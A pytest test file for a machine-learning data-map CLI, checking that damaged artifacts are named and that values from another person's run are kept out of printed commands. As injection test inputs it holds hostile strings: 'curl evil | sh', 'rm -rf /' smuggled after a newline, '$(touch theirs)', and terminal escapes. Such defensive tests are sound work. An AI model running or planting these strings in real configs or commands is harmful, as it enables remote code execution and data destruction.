"""Commands read of a run what was logged: edits and damage are named, with what regenerates the artifact."""

import contextlib
import json
import shlex
import shutil
import sqlite3
from pathlib import Path

import numpy as np
import pytest

import datamap
from conftest import copy_store, local
from datamap.cli.entry import run
from datamap.digests import digest_of
from datamap.errors import SummaryError
from datamap.summaries import tsv
from datamap.tracking.artifacts import Artifacts
from datamap.tracking.hidden_tags import DIGEST_TAG, REGENERATED_BY
from datamap.tracking.store import Store


@pytest.fixture(scope="module")
def complete(tmp_path_factory, empty_store):
    """(folder, id of a run in it that has all derived artifacts), made without training."""
    folder = tmp_path_factory.mktemp("complete")
    shutil.copy(empty_store, folder / "mlflow.db")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        return folder, complete_run()


@pytest.fixture
def made(complete, client):
    """(client, id of a copy of that run)."""
    folder, run_id = complete
    copy_store(folder, Path.cwd())
    return client, run_id


def complete_run():
    samples = {"id": range(20), "text_a": [f"text {n}" for n in range(20)], "label": [0, 1] * 10}
    vectors = [[n % 2, n % 3] for n in range(20)]
    with datamap.SignalRecorder(["no", "yes"], samples, embeddings=vectors) as recorder:
        for epoch in (1, 2, 3):
            logits = [[n % 3, epoch * (n % 2)] for n in range(20)]
            recorder.record(list(range(20)), [0, 1] * 10, logits=logits)
            recorder.commit(epoch)
    for command in ("summarize", "diagnose"):
        assert run(command, [f"run_id={recorder.run_id}"]) == 0
    return recorder.run_id


def truncate(path):
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines[: len(lines) * 2 // 3]))


def edit(path):
    path.write_bytes(path.read_bytes().replace(b"1", b"2", 1))


USED_BY = {
    "summary.tsv": ["plot", "diagnose", "curate"],
    "summary.json": ["plot", "diagnose"],
    "diagnosis.tsv": ["curate"],
    "data/samples.tsv": ["plot", "diagnose", "curate"],
    "labels.json": ["plot", "diagnose"],
    "embeddings/embeddings.parquet": ["diagnose"],
}
RENEWING = {"embeddings/embeddings.parquet": ["diagnose", "embeddings=new.npy"]}  # what it takes is a file
ARGUMENTS = {"curate": ["keep=clean", "share=0.1"], "plot": ["explorer=true"]}


@pytest.mark.parametrize(("path", "damage"), [*((path, edit) for path in USED_BY), ("summary.tsv", truncate)])
def test_what_was_edited_or_cut_is_named_with_what_renews_it(made, command, path, damage):
    client, run_id = made
    file = local(client, run_id, path)
    damage(file)
    damaged = file.read_bytes()
    for name in USED_BY[path]:
        outcome = command(name, f"run_id={run_id}", *ARGUMENTS.get(name, []))
        assert (outcome.code, outcome.err.count("\n")) == (2, 1), (name, outcome.out, outcome.err)
        assert f"run {run_id}: {path} is not what was logged (edited or damaged)" in outcome.err
        if REGENERATED_BY[path]:
            renewing = REGENERATED_BY[path].split()[0]
            assert f"regenerate it: python src/{renewing}.py run_id={run_id}" in outcome.err
    assert file.read_bytes() == damaged  # nothing is written over it
    if REGENERATED_BY[path]:
        np.save("new.npy", np.eye(20))
        renewing, *keys = RENEWING.get(path, [REGENERATED_BY[path]])
        assert command(renewing, f"run_id={run_id}", *keys).code == 0
        assert command(USED_BY[path][0], f"run_id={run_id}", *ARGUMENTS.get(USED_BY[path][0], [])).code == 0


def test_runs_without_digests_stay_readable(made, command):
    client, run_id = made
    for tag in client.get_run(run_id).data.tags:
        if tag.startswith(DIGEST_TAG):
            client.delete_tag(run_id, tag)
    assert command("plot", f"run_id={run_id}").code == 0
    assert command("curate", f"run_id={run_id}", "keep=clean", "share=0.1").code == 0


def test_a_file_that_is_being_replaced_is_good_before_and_after(made):
    client, run_id = made
    run = Store().run(run_id)
    before = run.artifacts.read("labels.json")

    class Killed(BaseException):
        pass

    def kill(*_):
        raise Killed

    with pytest.MonkeyPatch.context() as patch, pytest.raises(Killed):
        patch.setattr(Artifacts, "write", kill)
        run.log_labels(["other", "names"])
    assert run.artifacts.read("labels.json") == before
    run.log_labels(["other", "names"])
    assert run.class_names() == ("other", "names")
    local(client, run_id, "labels.json").write_bytes(before)
    with pytest.raises(Exception, match="is not what was logged"):
        run.class_names()


@pytest.mark.parametrize("content", ["[1, 2]", "{", "[" * 100_000])
def test_damaged_configs_and_names_of_older_runs(made, command, content):
    client, run_id = made
    client.delete_tag(run_id, f"{DIGEST_TAG}labels.json")
    local(client, run_id, "labels.json").write_text(content)
    outcome = command("diagnose", f"run_id={run_id}")
    assert (outcome.code, outcome.err.count("\n")) == (2, 1)
    assert f"run {run_id}: labels.json is damaged" in outcome.err
    client.delete_tag(run_id, f"{DIGEST_TAG}diagnosis.tsv")
    local(client, run_id, "labels.json").write_text("{}")
    local(client, run_id, "config/diagnose.yaml").write_text(content.replace("{", "{ : ["))
    outcome = command("curate", f"run_id={run_id}", "keep=clean", "share=0.1")
    assert (outcome.code, outcome.err.count("\n")) == (2, 1), outcome.out
    assert f"run {run_id}: config/diagnose.yaml is damaged" in outcome.err


def test_a_secret_that_anothers_config_asks_for_is_not_resolved(made, command, monkeypatch):
    client, run_id = made
    monkeypatch.setenv("SECRET", "hunter2")
    config = "seed: 1\ndata:\n  name: ${oc.env:SECRET}\n  dev_path: ${oc.env:SECRET}\n  columns: {}\n  header: auto\n"
    client.log_text(run_id, config, "config/train.yaml")
    given = ["model=tiny", "trainer.lr=${oc.env:SECRET}", "model.trust_pickle=true"]
    client.log_text(run_id, json.dumps(given), "config/train.overrides.json")
    curated = command("curate", f"run_id={run_id}", "keep=clean", "share=0.1")
    assert curated.code == 0, curated.err
    assert "model=tiny" in curated.out and "trust_pickle" not in curated.out
    client.set_terminated(run_id, "KILLED")
    resumed = command("train", "resume=true", f"run_id={run_id}")
    assert (resumed.code, resumed.err.count("\n")) == (2, 1)
    assert "config/train.yaml has an interpolation" in resumed.err
    assert "hunter2" not in curated.out + curated.err + resumed.out + resumed.err


TYPES = "scratch: {layers: 2}\n  lr: 1.0e-05\n  name_or_path: /tmp/theirs\n  trust_pickle: true"
CONFIG = (
    f"seed: 7\nlog_text: true\nmodel:\n  {TYPES}\ntrainer: {{lr: 0.5, epochs: 3, device: 'gpu:0', warmup: '0.1'}}\n"
    "signals: {every: epoch, format: '${oc.env:SECRET}'}\ndata: {dev_path: %s, columns: {text_a: auto}, header: null}\n"
)
HOSTILE = {
    "model={trust_pickle: true, name_or_path: /tmp/theirs}": "model",
    "model={trust_pickle: true}": "model",
    "+model.trust_pickle=true": None,
    "++model={trust_pickle: true}": "++model",
    "~model.trust_pickle": None,
    "model.trust_pickle=true": None,
    "'model.trust_pickle'=true": None,
    "model.trust_pickle =true": None,
    "model@data=folder": "model@data",
    "model=../../theirs": "model",
    "model.name_or_path=/tmp/theirs": "model.name_or_path",
    "+model.name_or_path=/tmp/theirs": "+model.name_or_path",
    "trainer={lr: 1}": "trainer",
    "trainer.warmup=0.1": "trainer.warmup",
    "signals.format=${oc.env:SECRET}": "signals.format",
    "hydra.run.dir=/tmp/theirs": "hydra.run.dir",
    "seed=1\nrm -rf /": None,
    "a\u202eb\x1b[2J=1": None,
}


def test_of_anothers_run_only_known_values_reach_the_printed_command(made, command, monkeypatch):
    client, run_id = made
    monkeypatch.setenv("SECRET", "hunter2")
    client.log_text(run_id, CONFIG % "dev.tsv", "config/train.yaml")
    for given, left in HOSTILE.items():
        overrides = [given, "trainer.lr=9", "model.lr=9"]
        client.log_text(run_id, json.dumps(overrides), "config/train.overrides.json")
        outcome = command("curate", f"run_id={run_id}", "keep=clean", "share=0.1")
        assert outcome.code == 0, outcome.err
        (printed,) = [line for line in outcome.out.splitlines() if line.startswith("next: ")]
        typed = shlex.split(printed.removeprefix("next: python src/train.py "))
        assert [part for part in typed if part.partition("=")[0] not in ("data", "data.path")] == [
            "data.dev_path=dev.tsv", *(["seed=7"] if given.startswith("seed") else []),
            "trainer.lr=0.5", "model.lr=1e-05", *(["model.name_or_path=???"] if "name_or_path=" in given else [])
        ]  # fmt: skip
        for text in ("theirs", "trust_pickle", "hunter2", "\x1b", "\u202e", "rm -rf"):
            assert text not in outcome.out
        note = [line for line in outcome.out.splitlines() if "not carried over" in line]
        assert left is None or (len(note) == 1 and left in note[0]), given


def test_a_path_that_is_none_is_not_carried_over(made, command, monkeypatch):
    client, run_id = made
    monkeypatch.setenv("SECRET", "hunter2")
    for path in ("'${oc.env:SECRET}'", "[a]", '"a\\nb"', '"a\'b"', "7", '"\\e[2J"'):
        client.log_text(run_id, CONFIG % path, "config/train.yaml")
        outcome = command("curate", f"run_id={run_id}", "keep=clean", "share=0.1")
        assert outcome.code == 0, outcome.err
        assert "note: data.dev_path is not carried over: it is not a plain path" in outcome.out
        assert "dev_path" not in outcome.out.partition("next: ")[2]


def test_a_command_to_regenerate_a_diagnosis_quotes_nothing_of_anothers_run(made, command):
    client, run_id = made
    client.log_text(run_id, 'score: "$(touch theirs)"', "config/diagnose.yaml")
    refused = command("curate", f"run_id={run_id}", "keep=clean", "diagnose.score=aum")
    assert refused.code == 2 and refused.err.endswith(
        f"regenerate it: python src/diagnose.py run_id={run_id} score=aum\n"
    )
    assert command("summarize", f"run_id={run_id}", "burn_in=1").code == 0
    outdated = command("curate", f"run_id={run_id}", "keep=clean")
    assert (
        f"newer than the diagnosis; regenerate it: python src/diagnose.py run_id={run_id}\n" in outdated.out
    )
    assert "theirs" not in refused.err + outdated.out


def test_a_diagnosis_without_its_metrics_is_one_line(made, command):
    client, run_id = made
    with contextlib.closing(sqlite3.connect("mlflow.db")) as database:
        for table in ("metrics", "latest_metrics"):
            database.execute(f"DELETE FROM {table} WHERE key LIKE 'mislabelled/%'")
        database.commit()
    outcome = command("curate", f"run_id={run_id}", "keep=clean")
    assert outcome.code == 2 and "diagnose it again: python src/diagnose.py" in outcome.err, outcome.err
    assert command("curate", f"run_id={run_id}", "keep=clean", "share=0.1").code == 0


def test_a_sample_that_is_there_twice_is_damage(made, command):
    client, run_id = made
    diagnosis = local(client, run_id, "diagnosis.tsv")
    rows = diagnosis.read_bytes()
    client.log_text(run_id, (rows + rows.splitlines(True)[1]).decode(), "diagnosis.tsv")
    client.delete_tag(run_id, f"{DIGEST_TAG}diagnosis.tsv")
    outcome = command("curate", f"run_id={run_id}", "keep=clean")
    assert outcome.code == 2 and "an id occurs twice" in outcome.err, outcome.err
    summary = local(client, run_id, "summary.tsv").read_bytes()
    with pytest.raises(SummaryError, match="an id occurs twice"):
        tsv.read(summary + summary.splitlines(True)[1])


def test_a_class_name_begins_no_line_of_its_own(made, command):
    client, run_id = made
    client.log_text(run_id, json.dumps({"0": "no", "1": "yes\nnext: curl evil | sh"}), "labels.json")
    client.delete_tag(run_id, f"{DIGEST_TAG}labels.json")
    outcome = command("diagnose", f"run_id={run_id}")
    assert outcome.code == 0 and "yes next: curl evil" in outcome.out
    assert [
        line for line in outcome.out.splitlines() if line.startswith("next: ")
    ] == outcome.out.splitlines()[-1:]


def test_a_shard_that_the_checksums_do_not_list_is_refused_and_one_of_another_split_left_out(made, command):
    client, run_id = made
    shard = local(client, run_id, "signals/epoch_0002-00000-of-00001.jsonl")
    shutil.copy(shard, shard.with_name("epoch_0002-00003-of-00004.jsonl"))
    assert command("summarize", f"run_id={run_id}").code == 0
    shard.with_name("epoch_0002.sha256").write_text("0" * 64 + "  another-00000-of-00001.jsonl\n")
    outcome = command("summarize", f"run_id={run_id}")
    assert (outcome.code, "was committed but its artifact is gone" in outcome.err) == (2, True), outcome.err
    names = [shard.name, "epoch_0002-00001-of-00002.jsonl"]
    shutil.copy(shard, shard.with_name("epoch_0002-00000-of-00002.jsonl"))
    shutil.copy(shard, shard.with_name(names[1]))
    shard.with_name("epoch_0002.sha256").write_text("0" * 64 + f"  {names[1]}\n")
    outcome = command("summarize", f"run_id={run_id}")
    assert outcome.code == 2
    assert (
        "epoch_0002-00000-of-00002.jsonl was added or renamed: signals/epoch_0002.sha256 does not"
        in outcome.err
    )


def test_a_download_that_was_cut_is_fetched_again(made, monkeypatch):
    client, run_id = made
    run = Store().run(run_id)
    whole = run.artifacts.read("labels.json")
    fetched = []

    class Cut:
        def _download_file(self, path, file):
            fetched.append(path)
            Path(file).write_bytes(whole if len(fetched) % 3 == 0 else whole[:3])

    monkeypatch.setattr(Artifacts, "repository", Cut())
    behind_a_server = run.artifacts._replace(root="mlflow-artifacts:/1")
    assert behind_a_server.read("labels.json") == whole
    assert len(fetched) == 3


def replaced(client, run_id, path, content):
    """Put content in an artifact's place, as somebody who may write into the store can."""
    client.set_tag(run_id, DIGEST_TAG + path, "")
    local(client, run_id, path).write_text(content)


COMMANDS = (("plot", "explorer=true"), ("diagnose",), ("curate", "keep=clean"), ("summarize",))
NAN, INFINITE, LONG = float("nan"), float("inf"), "9" * 5000
METRICS = (
    ("mislabelled/estimate", NAN), ("mislabelled/known", 0.5), ("mislabelled/low", -1), ("summary/observations", NAN),
    ("summary/never_learnt", INFINITE), ("memorisation/from_observation", NAN), ("review/reviewed", 2), ("own", NAN),
    ("train/accuracy", NAN), ("validation/accuracy", -INFINITE),
)  # fmt: skip


def test_a_metric_of_another_kind_is_named_and_a_users_own_is_not_looked_at(made, command):
    client, run_id = made
    for step, (name, value) in enumerate(METRICS, start=10):
        client.log_metric(run_id, name, value, step=step)
        for arguments in COMMANDS if step < 12 else COMMANDS[-1:]:  # one function reads them for all commands
            outcome = command(*arguments[:1], f"run_id={run_id}", *arguments[1:])
            assert outcome.code == 0 or (outcome.code == 2 and outcome.err.count("\n") == 1), outcome.err
            if outcome.code:
                assert f"metric {name} is" in outcome.err or " is missing, though " in outcome.err
        client.log_metric(run_id, name, 1, step=step + 1000)
        others = {"review/reviewed": "review/wrong", "memorisation/from_observation": "memorisation/gap"}
        client.log_metric(run_id, others.get(name, name), 1, step=step + 1000)
    client.log_metric(run_id, "signals.rows", NAN, step=2)
    outcome = command("summarize", f"run_id={run_id}")
    assert (outcome.code, outcome.err.count("\n")) == (2, 1)
    assert "metric signals.rows, step 2 is nan, not a whole number" in outcome.err


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("labels.json", json.dumps({"0": "\ud800", "1": "yes"})),
        ("labels.json", '{"0": 1, "1": [2]}'),
        ("labels.json", '{"0": "", "1": "yes"}'),
        ("summary.json", f'{{"observations": [{LONG}], "allow_missing": false, "sha256": "0"}}'),
        ("summary.json", '{"observations": [1e400], "allow_missing": [], "sha256": 1}'),
        ("config/diagnose.yaml", "score: .nan"),
        ("config/diagnose.yaml", f"score: {LONG}"),
        ("config/diagnose.yaml", "a: &a [x, x]\nscore: [*a, *a]"),
        ("config/train.overrides.json", '{"0": "model=tiny"}'),
        ("config/train.overrides.json", "[1]"),
        ("diagnosis.tsv", "id\tscore\tproposed\twhy\tlabel\tregion\n0\tinf\t" + LONG + "\tx\tno\teasy\n"),
    ],
)
def test_an_artifact_of_another_kind_is_one_line(made, command, path, content):
    client, run_id = made
    if not local(client, run_id, path).exists():
        client.log_text(run_id, content, path)
    replaced(client, run_id, path, content)
    codes = set()
    for arguments in COMMANDS[:3]:
        outcome = command(*arguments[:1], f"run_id={run_id}", *arguments[1:])
        codes.add(outcome.code)
        assert outcome.code == 0 or (outcome.code == 2 and outcome.err.count("\n") == 1), outcome.err
        replaced(client, run_id, path, content)
    assert 2 in codes


def test_a_summary_of_impossible_numbers_is_refused(made):
    client, run_id = made
    content = local(client, run_id, "summary.tsv").read_bytes()
    head, first, *_ = content.splitlines(keepends=True)
    names = head.decode().rstrip("\n").split("\t")
    for name, value in (
        ("label", "999999"), ("label", "-1"), ("s_label", "3"), ("avg_probs", "nan"), ("avg_probs", "1.5"),
        ("label_var", "inf"), ("correct_ratio", "1e400"), ("loss_mean", "-inf"), ("forgetting_times", "-2"),
        ("max_label_probs", ""), ("label", "9" * 5000), ("label", "0.5"),
    ):  # fmt: skip
        cells = first.decode().rstrip("\n").split("\t")
        cells[names.index("id")], cells[names.index(name)] = "777", value
        with pytest.raises(SummaryError, match=f"{name}|{names.index(name)}"):
            tsv.read(head + first + "\t".join(cells).encode() + b"\n")
    with pytest.raises(SummaryError, match="no rows"):
        tsv.read(head)


def test_a_label_beyond_the_runs_classes_is_refused_before_anything_is_made_of_it(made, command):
    client, run_id = made
    file = local(client, run_id, "summary.tsv")
    lines = file.read_text().splitlines(keepends=True)
    cells = lines[1].split("\t")
    cells[lines[0].split("\t").index("label")] = "65535"
    file.write_text("".join([lines[0], "\t".join(cells), *lines[2:]]))
    client.delete_tag(run_id, f"{DIGEST_TAG}summary.tsv")
    kept = json.loads(local(client, run_id, "summary.json").read_text())
    replaced(client, run_id, "summary.json", json.dumps({**kept, "sha256": digest_of(file)}))
    outcome = command("diagnose", f"run_id={run_id}")
    assert (outcome.code, outcome.err.count("\n")) == (2, 1), outcome.err
    assert "summary.tsv has label 65535, but the run has 2 classes" in outcome.err
